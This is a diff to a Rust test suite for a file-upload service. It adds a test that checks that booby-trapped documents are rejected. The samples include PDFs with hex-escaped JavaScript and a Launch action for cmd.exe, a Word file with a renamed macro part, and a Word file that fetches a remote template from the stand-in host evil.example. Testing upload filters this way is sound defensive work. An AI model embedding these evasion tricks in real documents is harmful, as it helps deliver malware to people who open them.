@@ -150,6 +150,44 @@ fn crc32(bytes: &[u8]) -> u32 {
 }
 
 #[tokio::test]
+async fn active_content_is_refused_however_it_is_spelled_or_named() {
+    let app = spawn_app().await;
+    let resident = app.resident("13912340005").await;
+    let pdf = String::from_utf8(samples::pdf("x")).expect("ascii");
+    let escaped =
+        pdf.replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>");
+    let launch = pdf.replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /#4Caunch /F (cmd.exe) >>");
+    let renamed_macros = samples::office_zip(&[
+        (
+            "[Content_Types].xml",
+            "<Types><Override PartName=\"/word/data.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>".into(),
+        ),
+        ("word/document.xml", "<w:document/>".into()),
+        ("word/data.dat", "Attribute VB_Name".into()),
+    ]);
+    let remote_template = samples::office_zip(&[
+        ("[Content_Types].xml", "<Types/>".into()),
+        ("word/document.xml", "<w:document/>".into()),
+        (
+            "word/_rels/settings.xml.rels",
+            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>".into(),
+        ),
+    ]);
+    let files = app.count("SELECT COUNT(*) FROM files").await;
+    for (name, bytes) in [
+        ("a.pdf", escaped.into_bytes()),
+        ("b.pdf", launch.into_bytes()),
+        ("c.docx", renamed_macros),
+        ("d.docx", remote_template),
+    ] {
+        let (status, error) = app.upload(&resident, name, bytes).await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {error}");
+        assert_eq!(error["message"], "不接受含有宏、脚本或嵌入文件的文件", "{name}");
+    }
+    assert_eq!(app.count("SELECT COUNT(*) FROM files").await, files, "nothing stored");
+}
+
+#[tokio::test]
 async fn text_that_lies_loses_its_hidden_characters_and_a_nul_is_400_on_both_databases() {
     let app = spawn_app().await;
     let resident = app.resident("13912340003").await;
